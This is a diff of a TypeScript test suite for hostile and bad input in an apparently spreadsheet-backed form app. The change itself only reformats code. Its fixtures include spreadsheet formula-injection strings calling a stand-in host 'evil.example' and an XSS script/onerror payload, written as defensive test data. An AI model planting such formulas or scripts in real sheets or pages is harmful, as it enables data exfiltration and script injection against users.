@@ -118,7 +118,12 @@ describe('hostile and bad input', () => {
     { name: '=IMPORTXML("http://evil.example","//a")', description: '=HYPERLINK("http://evil.example","нажми")' },
     { name: '+1+1', description: '-2+3 не считается' },
     { name: '@SUM(A1:A9)', description: '<script>alert("x")</script><img src=x onerror=alert(1)>' },
-    { name: 'Ёлкин 👨‍👩‍👧 Mixed Латиница', phone: '+79120000000', className: '0012', description: 'эмодзи 🙂👍🏽 и смешанный текст' },
+    {
+      name: 'Ёлкин 👨‍👩‍👧 Mixed Латиница',
+      phone: '+79120000000',
+      className: '0012',
+      description: 'эмодзи 🙂👍🏽 и смешанный текст',
+    },
     { name: 'Без почты', email: '', phone: '', description: 'Позвонили, контакт не оставили.' },
     { name: 'Плохой адрес', email: 'not-an-address@', description: 'Просили ответить письмом.' },
     { name: 'Грубиян', description: 'Вы там все идиоты, х.у.й вам, а не дневник' },
@@ -159,7 +164,10 @@ describe('hostile and bad input', () => {
     expect(String(row[column(rt, 'flags')])).toContain(ru.flags.truncated);
     const state = readSheetValues(rt, ru.sheets.state);
     const overflowCol = (state[0] as string[]).indexOf('overflow');
-    const overflow = JSON.parse(String(state.slice(2).find((r) => r[0] === ids[8])?.[overflowCol])) as Record<string, string>;
+    const overflow = JSON.parse(String(state.slice(2).find((r) => r[0] === ids[8])?.[overflowCol])) as Record<
+      string,
+      string
+    >;
     expect(overflow.description.endsWith('🙂конец')).toBe(true);
   });
 
